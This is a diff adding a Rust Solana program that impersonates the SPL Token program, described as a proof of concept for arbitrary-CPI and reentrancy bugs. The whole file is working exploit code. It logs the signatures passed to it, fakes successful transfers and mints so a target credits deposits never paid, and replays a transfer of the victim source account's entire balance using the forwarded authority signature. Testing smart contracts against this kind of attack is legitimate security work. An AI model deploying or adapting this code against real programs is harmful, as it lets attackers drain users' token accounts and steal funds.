@@ -0,0 +1,75 @@
+//! Fake SPL Token program for arbitrary-CPI and CPI-reentrancy PoCs.
+//!
+//! Generated by Baskerville. Pass this program where the target expects the
+//! Token program. It accepts every Token instruction:
+//!
+//! - Every signer it is handed is logged as `fake-token: signer <key>`, which
+//!   shows a PDA signature (or forwarded user signature) leaking to a
+//!   program the caller chose.
+//! - Transfers, mints and burns succeed without moving tokens, so a target
+//!   that credits a deposit after the CPI credits tokens never paid.
+//! - When the real Token program is among its accounts and the transfer
+//!   authority signed, it replays the transfer there for the full balance
+//!   of the source account, using the signature it was given.
+
+use solana_program::{
+    account_info::AccountInfo,
+    entrypoint,
+    entrypoint::ProgramResult,
+    instruction::{AccountMeta, Instruction},
+    msg,
+    program::invoke,
+    pubkey,
+    pubkey::Pubkey,
+};
+
+const TOKEN_PROGRAM_ID: Pubkey = pubkey!("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
+
+// SPL Token instruction tags
+const TRANSFER: u8 = 3;
+const TRANSFER_CHECKED: u8 = 12;
+
+entrypoint!(process_instruction);
+
+fn process_instruction(_program_id: &Pubkey, accounts: &[AccountInfo], data: &[u8]) -> ProgramResult {
+    let tag = data.first().copied().unwrap_or(u8::MAX);
+    msg!("fake-token: instruction {} with {} account(s)", tag, accounts.len());
+    for account in accounts.iter().filter(|a| a.is_signer) {
+        msg!("fake-token: signer {}", account.key);
+    }
+
+    // Transfer: [source, destination, authority]; TransferChecked: [source, mint, destination, authority]
+    let (source, destination, authority) = match tag {
+        TRANSFER if accounts.len() >= 3 => (&accounts[0], &accounts[1], &accounts[2]),
+        TRANSFER_CHECKED if accounts.len() >= 4 => (&accounts[0], &accounts[2], &accounts[3]),
+        _ => return Ok(()),
+    };
+    let Some(token_program) = accounts.iter().find(|a| *a.key == TOKEN_PROGRAM_ID) else {
+        return Ok(());
+    };
+    if !authority.is_signer || *source.owner != TOKEN_PROGRAM_ID {
+        return Ok(());
+    }
+
+    // Token account amount: u64 at offset 64
+    let balance = {
+        let data = source.try_borrow_data()?;
+        if data.len() < 72 {
+            return Ok(());
+        }
+        u64::from_le_bytes(data[64..72].try_into().unwrap())
+    };
+    msg!("fake-token: replaying transfer of {} to {}", balance, destination.key);
+    let mut ix_data = vec![TRANSFER];
+    ix_data.extend_from_slice(&balance.to_le_bytes());
+    let ix = Instruction {
+        program_id: TOKEN_PROGRAM_ID,
+        accounts: vec![
+            AccountMeta::new(*source.key, false),
+            AccountMeta::new(*destination.key, false),
+            AccountMeta::new_readonly(*authority.key, true),
+        ],
+        data: ix_data,
+    };
+    invoke(&ix, &[source.clone(), destination.clone(), authority.clone(), token_program.clone()])
+}